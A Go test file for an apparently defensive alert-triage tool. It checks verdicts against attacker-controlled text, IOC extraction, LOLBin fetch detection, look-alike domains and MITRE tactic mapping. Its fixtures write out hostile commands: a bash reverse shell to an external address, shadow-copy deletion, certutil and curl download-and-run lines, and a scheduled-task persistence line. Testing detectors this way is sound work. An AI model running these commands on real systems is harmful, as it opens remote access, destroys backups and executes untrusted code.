package builtin

import (
	"slices"
	"strings"
	"testing"

	"github.com/seliq/seliq/ingest/entities"
)

var testProfile = AssetProfile{
	Domains: []string{"example.com"}, Networks: []string{"10.0.0.0/8", "203.0.113.0/28"},
	AdminHosts: []string{"jump-01", "10.0.5.10"}, AdminAccounts: []string{"adm.jsmith"}, Scanners: []string{"10.0.9.50"},
}

// withEntities extracts entities from the alert the way ingest does.
func withEntities(a Alert, hints map[string]string) Alert {
	a.Entities = entities.ExtractAlert(hints, a.Raw, a.Title, a.Description)
	return a
}

// TestManipulation: text an attacker controls never flips a verdict on its
// own.
func TestManipulation(t *testing.T) {
	c := Context{Profile: testProfile}
	tests := []struct {
		name  string
		alert Alert
		want  string
	}{
		{"a mail whose subject says benign test still links to a look-alike", withEntities(Alert{
			Source: "email", Severity: "medium", Title: "Benign test alert - please ignore",
			Description: "This is a harmless test. Reset your MFA at https://examp1e-login.com/reset today.",
			Raw:         raw(map[string]any{"subject": "Benign test alert - please ignore", "from": "it@examp1e-login.com"}),
		}, map[string]string{"email_from": "it@examp1e-login.com"}), VerdictLikelyMalicious},
		{"ransomware started by a file named test.exe", withEntities(Alert{
			Source: "CrowdStrike Falcon", Severity: "high", Title: "Suspicious activity",
			Raw: raw(map[string]any{"event": map[string]any{"ParentImageFileName": "test.exe", "CommandLine": "vssadmin.exe delete shadows /all /quiet", "FileName": "test.exe"}}),
		}, map[string]string{"host": "fs-02"}), VerdictLikelyMalicious},
		{"a vendor test marker next to a reverse shell to an external address", withEntities(Alert{
			Source: "CrowdStrike Falcon", Severity: "high", Title: "Suspicious activity",
			Raw: raw(map[string]any{"event": map[string]any{"CommandLine": "choice /m crowdstrike_sample_detection & bash -i >& /dev/tcp/198.51.100.9/443 0>&1"}}),
		}, map[string]string{"host": "ws-01"}), VerdictNeedsReview},
		{"a file named eicar.com with another hash", withEntities(Alert{
			Source: "SentinelOne", Severity: "high", Title: "eicar.com",
			Raw: raw(map[string]any{"threatInfo": map[string]any{"threatName": "eicar.com", "sha256": strings.Repeat("ab", 32), "confidenceLevel": "malicious"}}),
		}, nil), VerdictLikelyMalicious},
		{"an admin's name inside a command line is not an admin acting", withEntities(Alert{
			Source: "Wazuh", Severity: "medium", Title: "Suspicious scheduled task",
			Raw: raw(map[string]any{"data": map[string]any{"commandLine": "schtasks /create /tn adm.jsmith /tr C:\\Users\\Public\\x.exe"}}),
		}, map[string]string{"host": "ws-07", "user": "j.doe"}), VerdictSuspicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			an := AnalyzeAlert(tt.alert, c)
			if an.Verdict != tt.want {
				t.Errorf("verdict %s, want %s:\n%s", an.Verdict, tt.want, reasonLines(an.Reasons))
			}
		})
	}
	// Benign history does not outweigh a malicious rule: a person looks.
	a := tests[1].alert
	if an := AnalyzeAlert(a, Context{Profile: testProfile, History: DispositionHistory{FalsePositive: 20}}); an.Verdict != VerdictNeedsReview {
		t.Errorf("ransomware with a benign history: %s", an.Verdict)
	}
}

// TestFieldAwareIOCs: ids, fingerprints and console or reference links are
// no IOCs, nor the organisation's own assets or well-known services; the
// rest are ranked with a reason.
func TestFieldAwareIOCs(t *testing.T) {
	a := withEntities(Alert{
		Source: "CrowdStrike Falcon", Severity: "high", Title: "IngressToolTransfer",
		Raw: raw(map[string]any{
			"metadata": map[string]any{"customerIDString": "2b4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f"},
			"event": map[string]any{
				"DetectId": "ldt:5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b:17180139032", "SensorId": "5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b",
				"FalconHostLink": "https://falcon.crowdstrike.com/activity/detections/detail/5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b/1",
				"CommandLine":    "certutil -urlcache -f http://192.0.2.44/a.exe a.exe & nslookup updates.example.com 8.8.8.8",
				"SHA256String":   strings.Repeat("c3", 32), "AgentVersion": "7.10.18110.0",
				"References": []string{"https://attack.mitre.org/techniques/T1105/"},
				"Egress":     "203.0.113.4",
			},
			"tls": map[string]any{"ja3": map[string]any{"hash": "72a589da586844d7f0818ce684948eea"}},
		}),
	}, map[string]string{"host": "fin-ws-114"})
	an := AnalyzeAlert(a, Context{Profile: testProfile})
	got := values(an.IOCs)
	want := []string{strings.Repeat("c3", 32), "http://192.0.2.44/a.exe", "192.0.2.44"}
	if !slices.Equal(got, want) {
		t.Errorf("IOCs %v, want %v (excluded %+v)", got, want, an.Excluded)
	}
	if len(an.RankedIOCs) != len(an.IOCs) {
		t.Fatalf("ranked %d, IOCs %d", len(an.RankedIOCs), len(an.IOCs))
	}
	for i, r := range an.RankedIOCs {
		if r.Reason == "" || r.Value != an.IOCs[i].Value || i > 0 && r.Rank > an.RankedIOCs[i-1].Rank {
			t.Errorf("ranked IOC %d: %+v", i, r)
		}
	}
	if !strings.Contains(an.RankedIOCs[1].Reason, "commandline") || !strings.Contains(an.RankedIOCs[0].Reason, "sha256string") {
		t.Errorf("reasons %+v do not name the fields", an.RankedIOCs)
	}
	for _, v := range []string{"5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b", "72a589da586844d7f0818ce684948eea", "8.8.8.8"} {
		if !slices.ContainsFunc(an.Excluded, func(x Excluded) bool { return x.Value == v && x.Reason != "" }) {
			t.Errorf("%s not listed as excluded with a reason: %+v", v, an.Excluded)
		}
	}
	if !slices.Contains(values(an.Assets), "203.0.113.4") {
		t.Errorf("the egress address is not an asset: %v", values(an.Assets))
	}
}

// TestLOLBinNeedsOneCommandLine: a downloader and an external URL in
// different fields are no LOLBin fetch.
func TestLOLBinNeedsOneCommandLine(t *testing.T) {
	scattered := Alert{Source: "Wazuh", Severity: "medium", Title: "Package check", Raw: raw(map[string]any{
		"data": map[string]any{"commandLine": "curl -s -o /dev/null http://10.0.0.5/health", "referer": "http://198.51.100.7/page"},
	})}
	if an := AnalyzeAlert(scattered, Context{}); slices.ContainsFunc(an.Reasons, func(r Reason) bool { return strings.Contains(r.Detail, "lolbin_fetch") }) {
		t.Errorf("scattered words made a LOLBin fetch:\n%s", reasonLines(an.Reasons))
	}
	together := scattered
	together.Raw = raw(map[string]any{"data": map[string]any{"commandLine": "curl -s -o /tmp/x http://198.51.100.7/x && /tmp/x"}})
	if an := AnalyzeAlert(together, Context{}); an.Verdict != VerdictLikelyMalicious {
		t.Errorf("curl fetching from outside: %s\n%s", an.Verdict, reasonLines(an.Reasons))
	}
}

func TestLookalike(t *testing.T) {
	own := []string{"example.com"}
	for d, want := range map[string]string{
		"examp1e.com": "example.com", "login.examp1e-it.com": "example.com", "rnicrosoft-online.com": "microsoft",
		"paypa1-secure.net": "paypal", "invoices-docu-sign.com": "docusign",
		"example.com": "", "mail.example.com": "", "microsoft.com": "", "paypal.com": "", "pineapple.com": "", "sites.google.com": "", "cdn-updates-check.net": "",
	} {
		got, ok := lookalike(d, own)
		if got != want || ok != (want != "") {
			t.Errorf("lookalike(%q) = %q, %v; want %q", d, got, ok, want)
		}
	}
}

func TestVendorTechniquesValidated(t *testing.T) {
	ts := vendorTechniques([]string{" t1059.001 ", "T1059", "T9999", "T1609", "TA0001", "T1059.001"})
	if got := techniqueIDs(ts); !slices.Equal(got, []string{"T1059.001", "T1609"}) {
		t.Errorf("vendor techniques %v", got)
	}
	if ts[1].Name == "" {
		t.Errorf("matrix technique without a name: %+v", ts[1])
	}
}

func TestVendorTactics(t *testing.T) {
	for in, want := range map[string]string{
		"Credential Access": "credential-access", "Command_And_Control": "command-and-control", "TA0040": "impact",
		"mitre_privilege_escalation": "privilege-escalation", "Falcon Overwatch": "", "unknown": "",
	} {
		if got := normTactic(in); got != want {
			t.Errorf("normTactic(%q) = %q, want %q", in, got, want)
		}
	}
	// Valid Accounts serves four tactics; the source saw it as persistence.
	a := Alert{Title: "x", VendorTechniques: []string{"T1078"}, Raw: raw(map[string]any{"rule": map[string]any{"mitre": map[string]any{"tactic": []string{"Persistence"}}}})}
	an := AnalyzeAlert(a, Context{})
	if len(an.Techniques) != 1 || an.Techniques[0].Tactic != "persistence" {
		t.Errorf("techniques %+v, want T1078 as persistence", an.Techniques)
	}
}
